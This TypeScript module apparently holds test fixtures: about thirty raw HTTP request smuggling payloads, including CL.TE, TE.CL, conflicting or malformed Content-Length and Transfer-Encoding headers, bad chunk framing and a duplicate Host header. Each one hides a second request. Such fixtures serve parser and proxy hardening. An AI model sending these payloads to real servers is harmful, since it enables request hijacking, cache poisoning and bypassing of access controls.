const HOST = "Host: www.example.com\r\n";
/** Hidden in each of them. */
export const HIDDEN = "GET /updateLog HTTP/1.1\r\nHost: www.example.com\r\n\r\n";
const post = (headers: string, body: string) =>
  `POST /login HTTP/1.1\r\n${HOST}Content-Type: application/x-www-form-urlencoded\r\n${headers}\r\n${body}`;
const chunked = (body: string, te = "Transfer-Encoding: chunked\r\n") => post(te, body);
const END = "0\r\n\r\n";

/** Requests that two servers in a row could understand differently; each hides a second one. */
export const smuggling = {
  "CL.TE": post(`Content-Length: 6\r\nTransfer-Encoding: chunked\r\n`, `${END}G${HIDDEN}`),
  "TE.CL": post(`Transfer-Encoding: chunked\r\nContent-Length: 4\r\n`, `5c\r\n${HIDDEN}\r\n${END}`),
  "two lengths": post("Content-Length: 0\r\nContent-Length: 50\r\n", HIDDEN),
  "a list of lengths": post("Content-Length: 0, 50\r\n", HIDDEN),
  "a signed length": post("Content-Length: +0\r\n", HIDDEN),
  "a negative length": post("Content-Length: -1\r\n", HIDDEN),
  "a hexadecimal length": post("Content-Length: 0x0\r\n", HIDDEN),
  "a length with a space within": post("Content-Length: 0 0\r\n", HIDDEN),
  "a space before the colon": post("Content-Length : 0\r\n", HIDDEN),
  "TE with a space before the colon": chunked(END + HIDDEN, "Transfer-Encoding : chunked\r\n"),
  "an unknown coding": chunked(END + HIDDEN, "Transfer-Encoding: xchunked\r\n"),
  "chunked not last": chunked(END + HIDDEN, "Transfer-Encoding: chunked, identity\r\n"),
  "chunked and a tab": chunked(END + HIDDEN, "Transfer-Encoding:\x0bchunked\r\n"),
  "obs-fold": chunked(END + HIDDEN, "Transfer-Encoding:\r\n chunked\r\nContent-Length: 3\r\n"),
  "a bare LF before TE": chunked(
    END + HIDDEN,
    "X: y\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n",
  ),
  "a bare CR in a header": post("X: y\rContent-Length: 0\r\n", HIDDEN),
  "a NUL in a header": post("X: y\x00z\r\nContent-Length: 0\r\n", HIDDEN),
  "a chunk's size that is none": chunked(`zz\r\n${HIDDEN}`),
  "a chunk's size with 0x": chunked(`0x0\r\n\r\n${HIDDEN}`),
  "a chunk's size with a sign": chunked(`-0\r\n\r\n${HIDDEN}`),
  "a chunk's size too large": chunked(`fffffffffffffffff\r\n${HIDDEN}`),
  "a chunk longer than it says": chunked(`1\r\nab\r\n${END}${HIDDEN}`),
  "a bare LF after a chunk's size": chunked(`1\na\n0\n\n${HIDDEN}`),
  "a bare LF in a chunk extension": chunked(`1;a\nb\r\nx\r\n${END}${HIDDEN}`),
  "a header name with a space": post("X Y: z\r\nContent-Length: 0\r\n", HIDDEN),
  "no colon in a header": post("XY\r\nContent-Length: 0\r\n", HIDDEN),
  "two hosts": `POST /login HTTP/1.1\r\n${HOST}Host: evil.example\r\nContent-Length: 0\r\n\r\n${HIDDEN}`,
  "HTTP/1.0 with TE": `POST /login HTTP/1.0\r\n${HOST}Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n${END}${HIDDEN}`,
  "a version that is none": `GET / HTTP/9.1\r\n${HOST}\r\n${HIDDEN}`,
  "a space in the target": `GET /a b HTTP/1.1\r\n${HOST}\r\n${HIDDEN}`,
};
